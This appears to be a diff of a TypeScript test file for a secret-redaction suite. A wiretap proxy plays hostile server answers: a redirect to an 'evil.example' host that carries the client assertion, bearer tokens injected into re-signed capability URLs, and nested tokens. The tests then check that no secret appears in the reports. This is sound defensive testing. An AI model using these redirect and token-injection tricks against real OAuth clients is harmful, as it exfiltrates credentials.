@@ -5,11 +5,13 @@
  * the output folder) is searched for the private keys and for those secrets. Without --show-secrets none
  * may appear; with it, tokens appear (and the report says so) but private keys still never do.
  */
+import { randomBytes } from "node:crypto";
 import { mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
 import { createServer, type IncomingMessage, type Server, type ServerResponse } from "node:http";
 import type { AddressInfo } from "node:net";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
+import { CompactSign } from "jose";
 import { request } from "undici";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import { captureIo } from "../cli/capture-io.fixture.ts";
@@ -19,8 +21,84 @@ import { generateTestPki, TEST_PARTY_ROLES, toPem, writeTestPki } from "../pki/i
 import { type ReferenceTarget, startReferenceTarget } from "../reference/index.ts";
 import type { RunSummary } from "../report/index.ts";
 
+/** Hang detector for one full run through the wiretap (a loaded machine is slow, not wrong). */
+const FULL_RUN_MS = 300_000;
+
 /** What went over the wire, by kind. */
 const seen = { assertions: new Set<string>(), bearer: new Set<string>(), issued: new Set<string>() };
+
+/**
+ * Hostile answers the wiretap plays instead of passing the reference's on (undefined: pass them on):
+ * - `shapes`: the first token answer is passed on (discovery gets a token); the authenticated capabilities
+ *   answer is re-signed by the target's own key with that bearer token in every advertised URL (so it
+ *   verifies, and the notices quote it); later token answers carry the token nested
+ *   (`{"access_token":{"value":…}}`), an `id_token` and another JWT-shaped string;
+ * - `redirect`: the first token answer is a 302 whose Location carries the client assertion.
+ */
+let hostile: "shapes" | "redirect" | undefined;
+let tokenAnswers = 0;
+let pkiKeys: Awaited<ReturnType<typeof generateTestPki>>;
+
+/** A random string shaped like a JWT (never issued by anyone). */
+const jwtShaped = (): string =>
+  `eyJ${randomBytes(12).toString("base64url")}.eyJ${randomBytes(24).toString("base64url")}.${randomBytes(32).toString("base64url")}`;
+
+/** The hostile replacement of an answer, or undefined to pass it on. */
+async function hostileAnswer(
+  req: IncomingMessage,
+  body: string,
+  answer: Buffer,
+  status: number,
+): Promise<{ status: number; headers: Record<string, string>; body: string } | undefined> {
+  const json = { "content-type": "application/json" };
+  if (hostile === undefined) return undefined;
+  if (req.url?.startsWith(reference.endpoints["token"] ?? "/connect/token") && status === 200) {
+    tokenAnswers += 1;
+    if (tokenAnswers === 1 && hostile === "redirect") {
+      const assertion = new URLSearchParams(body).get("client_assertion") ?? "";
+      return {
+        status: 302,
+        headers: { location: `https://evil.example/cb?client_assertion=${assertion}` },
+        body: "",
+      };
+    }
+    if (tokenAnswers === 1) return undefined;
+    const issued = JSON.parse(answer.toString("utf8")) as Record<string, unknown>;
+    const idToken = jwtShaped();
+    const debug = jwtShaped();
+    seen.issued.add(idToken);
+    seen.issued.add(debug);
+    return {
+      status: 200,
+      headers: json,
+      body: JSON.stringify({
+        ...issued,
+        access_token: { value: issued["access_token"] },
+        id_token: idToken,
+        debug: `upstream said ${debug}`,
+      }),
+    };
+  }
+  const bearer = req.headers.authorization?.slice("Bearer ".length);
+  if (
+    hostile === "shapes" &&
+    req.url?.startsWith("/capabilities") &&
+    bearer !== undefined &&
+    status === 200
+  ) {
+    const token = (JSON.parse(answer.toString("utf8")) as { capabilities_token: string }).capabilities_token;
+    const [header, payload] = token.split(".").map((part) => Buffer.from(part, "base64url").toString("utf8"));
+    const leaky = (payload ?? "").replace(
+      /"url":"([^"]+)"/g,
+      (_m, url: string) => `"url":"${url}?access_token=${bearer}"`,
+    );
+    const resigned = await new CompactSign(new TextEncoder().encode(leaky))
+      .setProtectedHeader(JSON.parse(header ?? "{}") as { alg: string })
+      .sign(pkiKeys.parties.reference.privateKey);
+    return { status: 200, headers: json, body: JSON.stringify({ capabilities_token: resigned }) };
+  }
+  return undefined;
+}
 
 let dir: string;
 let pkiDir: string;
@@ -54,6 +132,12 @@ async function tap(req: IncomingMessage, res: ServerResponse): Promise<void> {
   const answer = Buffer.from(await upstream.body.arrayBuffer());
   for (const match of answer.toString("utf8").matchAll(/"access_token":"([^"]+)"/g))
     seen.issued.add(match[1] ?? "");
+  const replaced = await hostileAnswer(req, text, answer, upstream.statusCode);
+  if (replaced) {
+    res.writeHead(replaced.status, replaced.headers);
+    res.end(replaced.body);
+    return;
+  }
   const { "transfer-encoding": _chunked, connection: _connection, ...passed } = upstream.headers;
   res.writeHead(upstream.statusCode, passed);
   res.end(answer);
@@ -63,6 +147,7 @@ beforeAll(async () => {
   dir = await mkdtemp(join(tmpdir(), "secret-scan-"));
   pkiDir = join(dir, "pki");
   const pki = await generateTestPki();
+  pkiKeys = pki;
   await writeTestPki(pki, pkiDir);
   await writeFile(
     join(pkiDir, "issuing-ca.chain.pem"),
@@ -168,9 +253,6 @@ async function fullRun(out: string, extra: string[] = []) {
   return { code, outputs, summary };
 }
 
-/** A whole run through the CLI (pre-flight, every suite, reports): more than the default test timeout on a loaded machine. */
-const FULL_RUN_TIMEOUT_MS = 240_000;
-
 describe("secrets never leak", () => {
   test(
     "a full run leaks no private key, access token, bearer token or client assertion anywhere",
@@ -194,7 +276,7 @@ describe("secrets never leak", () => {
       // Redacted, not dropped: the fingerprints let a reader correlate requests.
       expect(outputs.some((o) => /\[redacted sha256:[0-9a-f]{8}\]/.test(o.text))).toBe(true);
     },
-    FULL_RUN_TIMEOUT_MS,
+    FULL_RUN_MS,
   );
 
   test(
@@ -213,6 +295,44 @@ describe("secrets never leak", () => {
       expect([...seen.issued].some((token) => results.includes(token))).toBe(true);
       expect(summary.notices).toContainEqual(expect.stringContaining("--show-secrets"));
     },
-    FULL_RUN_TIMEOUT_MS,
+    FULL_RUN_MS,
+  );
+
+  test.each([
+    [
+      "shapes",
+      "a bearer token in the advertised URLs (notices), a nested access_token, an id_token, other JWT-shaped strings",
+    ],
+    ["redirect", "the client assertion in a redirect Location (notices)"],
+  ] as const)(
+    "a hostile target (%s): %s never reach any output",
+    async (mode, _what) => {
+      seen.assertions.clear();
+      seen.bearer.clear();
+      seen.issued.clear();
+      hostile = mode;
+      tokenAnswers = 0;
+      try {
+        const { outputs, summary } = await fullRun(join(dir, `reports-${mode}`), ["--suite", "token"]);
+        expect(summary.cases.length).toBeGreaterThan(20);
+        // The hostile answers were played, and they are what the notices and results quote.
+        expect(tokenAnswers).toBeGreaterThan(1);
+        if (mode === "shapes") {
+          expect(summary.notices).toContainEqual(
+            expect.stringContaining("but the target's capabilities advertise"),
+          );
+          expect(seen.bearer.size).toBeGreaterThan(0);
+        } else {
+          expect(summary.notices).toContainEqual(
+            expect.stringContaining("https://evil.example/cb?client_assertion="),
+          );
+        }
+        expect(leaks(outputs, wireSecrets())).toEqual([]);
+        expect(leaks(outputs, await keyMaterial())).toEqual([]);
+      } finally {
+        hostile = undefined;
+      }
+    },
+    FULL_RUN_MS,
   );
 });
